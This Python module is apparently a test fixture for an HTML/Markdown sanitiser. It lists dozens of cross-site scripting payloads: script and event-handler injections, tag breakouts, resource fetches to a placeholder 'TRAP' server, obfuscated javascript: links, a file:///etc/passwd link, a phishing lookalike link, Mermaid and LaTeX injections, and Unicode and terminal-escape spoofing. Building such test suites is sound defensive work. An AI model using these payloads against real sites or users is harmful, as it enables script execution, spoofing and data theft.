"""Hostile texts. `TRAP` stands for the address of a server that records what it is asked for.

Each would, shown without care, either set `window.ran`, open a dialog, or fetch from the trap.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.ran=(window.ran||0)+1"

# What a page that inserts text as HTML runs or fetches by itself: the trap must spring for these.
ACTIVE: Final = [
    f"<script>{RUN}</script>",
    "<script src='TRAP/script.js'></script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    "<img src='TRAP/img.png'>",
    f"<img src=x: onerror='{RUN}'>",
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href='x:' onerror='{RUN}'/></svg>",
    "<svg><image href='TRAP/svg.png' width='9' height='9'/></svg>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<video><source onerror='{RUN}'></video>",
    f"<iframe srcdoc='<script>parent.{RUN.replace('window', 'parent')}</script>'></iframe>",
    "<iframe src='TRAP/frame'></iframe>",
    "<object data='TRAP/object'></object>",
    "<embed src='TRAP/embed'>",
    "<link rel=stylesheet href='TRAP/style.css'>",
    "<style>@import 'TRAP/import.css';</style>",
    "<style>body{background:url(TRAP/body.png)}</style>",
    "<div style='background:url(TRAP/css.png);width:9px;height:9px'>x</div>",
    "<script>alert(1)</script>",
    f"</details><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</section></div></svg></title><img src=x: onerror='{RUN}'>",
    f"</code></pre></textarea><svg/onload='{RUN}'>",
    f"\"><img src=x: onerror='{RUN}'>",
    f"'><img src=x: onerror='{RUN}'>",
    f"<!-- --!><img src=x: onerror='{RUN}'> -->",
    f"<a><b><i><u><img src=x: onerror='{RUN}'></u></i></b></a>",
    "<meta http-equiv=refresh content='0;url=TRAP/refresh'>",
    "<audio src='TRAP/sound.mp3' autoplay></audio>",
    "<table background='TRAP/table.png'><tr><td>x</td></tr></table>",
]

# What does harm only where Markdown, entities, links or diagrams are made of the text.
QUIET: Final = [
    "![x](TRAP/markdown.png)",
    "![x][ref]\n\n[ref]: TRAP/reference.png",
    "[![x](TRAP/inner.png)](TRAP/outer)",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](java&#x0A;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"[x](data:text/html;base64,PHNjcmlwdD4{RUN})",
    f"[x](vbscript:{RUN})",
    "[x](//127.0.0.1/relative)",
    "[x](file:///etc/passwd)",
    f'[x](TRAP/link "\\" onmouseover=\\"{RUN}")',
    f'[x](<TRAP/a" onclick="{RUN}>)',
    "[https://bank.example](TRAP/phish)",
    "[x](https://good.example@127.0.0.1:1/)",
    "<https://good.example:80@127.0.0.1:1/>",
    f"- [x] <img src=x: onerror='{RUN}'>\n- [ ] [y](javascript:{RUN})",
    f"# <img src=x: onerror='{RUN}'> {{.asi1}}",
    "👩\u200d\u202e\u200d👧 pay\u200dpal \U000e0068\U000e0069",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x: onerror={RUN}&#62;",
    f'``` " onmouseover="{RUN}\n<script>{RUN}</script>\n```',
    f'```mermaid\ngraph TD; a["<img src=x: onerror={RUN}>"]\nclick a "javascript:{RUN}"\n```',
    f'"]; click model "javascript:{RUN}"; x["',
    "%%{init: {'securityLevel': 'loose', 'themeCSS': 'x{background:url(TRAP/m.png)}'}}%%",
    f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\unicode{{<img src=x: onerror={RUN}>}}\\)",
    "\u202egpj.exe\u2066\u202d\u200f\x1b]8;;TRAP/osc\x07x\x1b]8;;\x07",
    "&#x202e;&#x1b;[31m&#27;]8;;TRAP/osc&#7;x",
    "x{background:url(TRAP/bare.png)} */ } .asi1{display:none}",
    f"<math><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x: onerror={RUN}>'>",
    f"| a |\n|---|\n| <img src=x: onerror={RUN}> ![x](TRAP/cell.png) |",
    f"> # <img src=x: onerror={RUN}>\n> 1. [x](javascript:{RUN})",
]

PAYLOADS: Final = [*ACTIVE, *QUIET]
